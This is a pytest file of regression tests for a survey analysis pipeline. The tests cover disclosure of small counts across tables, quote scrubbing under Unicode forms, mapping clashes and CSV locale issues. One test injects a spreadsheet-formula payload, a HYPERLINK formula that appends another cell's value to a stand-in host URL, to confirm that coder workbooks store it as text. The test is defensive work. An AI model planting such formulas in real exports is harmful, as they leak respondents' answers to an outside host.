"""Cases from an adversarial review of the speed and safety work (each failed before its fix): a hidden
count recovered from two tables, real quotes published without review, scrubbing fooled by Unicode forms,
formulas in coder workbooks, a respondent dropped by a forced layout, mapping keys that clash, a review file
saved by Dutch Excel, a missing space read as a web address."""
from __future__ import annotations

import unicodedata
import warnings

import pandas as pd
import pytest

from analysis import coding
from analysis.survey.codebook import load_codebook
from analysis.core.errors import SurveyDataError
from analysis.protection.quotes import scrub_quote
from analysis.survey.synth import generate, write_export
from analysis.survey.loader import load, load_with_log
from analysis.survey.mapping import Mapping
from analysis.protection.rules import Rules

BUNDLED = "data/raw/politie20_survey_2011_synthetic.csv"


# --------------------------------------------------------------------------- disclosure across tables

@pytest.mark.parametrize("n, seed", [(30, 3), (25, 1), (28, 2), (35, 4), (40, 5), (45, 6), (60, 7)])
def test_hidden_role_count_does_not_follow_from_the_citizen_facing_total(tmp_path, n, seed):
    """participants: role.csv shows community officers (6) and communication (5) and hides intake;
    active_by_citizen_facing.csv shows n = 12 for the citizen-facing roles (community, communication,
    intake). 12 - 6 - 5 = 1 intake respondent. The theme's audit passes, so this is published."""
    from analysis.themes import participants
    from analysis.themes.base import Context

    warnings.simplefilter("ignore")
    frame = load(write_export(generate(n, seed), tmp_path / "small.csv"))
    result = participants.analyse(frame, Context(rules=Rules(k=5), synthetic=True))
    if result.audit():  # the build refuses to publish this chapter (DisclosureError): nothing to recover from
        return
    tables = result.tables()
    cb = load_codebook()
    labels = cb["role"].code_labels("en")
    citizen = [labels[c.code] for c in cb["role"].codes if c.attrs.get("citizen_facing")]
    role = tables["role"].set_index("label")["count"]
    coarse = tables["active_by_citizen_facing"].set_index("group")["n"]
    hidden = [label for label in citizen if role[label] == "[c]"]
    if coarse[1.0] != "[c]" and len(hidden) == 1:
        recovered = float(coarse[1.0]) - sum(float(role[label]) for label in citizen if label not in hidden)
        assert not 0 < recovered < 5, \
            f"{hidden[0]} = {recovered:g} follows from role.csv and active_by_citizen_facing.csv"


# --------------------------------------------------------------------------- quotes without review

def test_one_synthetic_row_does_not_make_a_real_export_synthetic(tmp_path):
    """A synthetic export publishes quotes without review, so one test record marked synthetic in a
    real export must not make it synthetic: a file that mixes both is refused, naming the row."""
    rows = generate(30, 1)
    for i, row in enumerate(rows):
        row["synthetic"] = 1 if i == 0 else 0
    with pytest.raises(SurveyDataError) as info:
        load(write_export(rows, tmp_path / "mixed.csv"))
    [problem] = info.value.problems
    assert problem.column == "synthetic" and problem.respondent == rows[0]["respondent_id"]


def test_scrubbing_does_not_depend_on_unicode_normalisation():
    """An export in NFD (decomposed accents, as macOS writes) leaks a surname: 'Rene\\u0301 Mu\\u0308ller'
    is scrubbed to '[name]\\u0301 Mu\\u0308ller'."""
    text = unicodedata.normalize("NFD", "Bel wijkagent René Müller even")
    scrubbed = unicodedata.normalize("NFC", scrub_quote(text))
    assert "Müller" not in scrubbed


def test_coder_sheets_hold_answers_as_text_not_formulas(tmp_path):
    """A respondent's answer starting with '=' becomes a live formula in every coder's workbook
    (openpyxl writes such strings as formulas); it can read other answers (&B3) and call out."""
    from openpyxl import load_workbook

    warnings.simplefilter("ignore")
    rows = generate(30, 1)
    rows[0]["barriers_open"] = '=HYPERLINK("http://x.example/?"&B3,"klik")'
    frame = load(write_export(rows, tmp_path / "x.csv"))
    path = coding.export_sheets(frame, tmp_path / "sheets", coders=1)[0]
    sheet = load_workbook(path)["barriers_open"]
    types = {row[0].value: row[1].data_type for row in sheet.iter_rows(min_row=2)}
    assert types[rows[0]["respondent_id"]] != "f"


# --------------------------------------------------------------------------- automatic coding

def test_a_missing_space_after_a_full_stop_is_not_an_address():
    """strip_addresses reads 'wijk.Nu' as a URL (TLD .nu) and drops 'wijk': the hint 'wijk' no longer
    codes the answer (also 'app.Info', 'politie.Be' ...)."""
    item = load_codebook()["opportunities_open"]
    codes = coding.automatic_codes(pd.Series(["Meer contact met de wijk.Nu is dat te weinig"]), item)
    assert codes.loc[0, "community"] == 1


# --------------------------------------------------------------------------- reading

def test_forced_two_row_format_on_a_plain_export_does_not_drop_the_first_respondent():
    """695a166 refuses a forced --format with more header rows only when the file looks like
    LimeSurvey/Forms/SPSS; on a plain export --format qualtrics still drops respondent 1 silently."""
    try:
        frame, _ = load_with_log(BUNDLED, format="qualtrics")
    except SurveyDataError:
        return  # refused: fine
    assert len(frame) == 420


@pytest.mark.parametrize("columns", [{"Q1": "role", "Q1 ": "age_band"}, {"Q1": "role", " Q1": "age_band"}])
def test_mapping_keys_that_differ_only_in_outer_spaces_are_refused(columns):
    """_clashes compares the already-merged 'columns' dict (keys stripped, last one wins), so two export
    columns that differ by a leading/trailing space and map to different items pass silently."""
    with pytest.raises(SurveyDataError):
        Mapping.from_dict({"columns": columns})


def test_value_maps_of_one_column_written_twice_are_refused():
    """values: {role: {ja: 1}, 'role ': {ja: 2}}: the second silently replaces the first."""
    with pytest.raises(SurveyDataError):
        Mapping.from_dict({"values": {"role": {"ja": 1}, "role ": {"ja": 2}}})


def test_a_review_file_saved_by_dutch_excel_keeps_its_approvals(tmp_path):
    """Excel with a Dutch locale saves CSV with ';' as separator; read_approved_quotes reads ',' only and
    then finds no approval at all, without saying so (real quotes stay 'awaiting review')."""
    from analysis.protection.quotes import quote_hash, read_approved_quotes

    text = "Meer contact met de wijk, vooral 's avonds"
    path = tmp_path / "quotes_review.csv"
    path.write_text("theme;question;text;hash;approved\n"
                    f"opportunities;opportunities_open;\"{text}\";{quote_hash('opportunities_open', text)};ja\n",
                    encoding="utf-8-sig")
    assert read_approved_quotes(path) == frozenset({quote_hash("opportunities_open", text)})
